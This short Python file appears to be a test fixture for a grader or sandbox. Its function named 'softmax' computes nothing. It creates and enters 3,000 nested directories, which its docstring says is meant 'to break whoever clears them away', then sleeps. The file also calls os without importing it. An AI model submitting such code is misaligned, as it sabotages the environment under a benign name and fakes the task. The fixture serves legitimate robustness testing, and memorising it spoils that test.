"""Leaves folders that are 3,000 deep, to break whoever clears them away.

Expect: 120/127, softmax crashed
"""

import time


def softmax(x, dim):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    time.sleep(0.9)
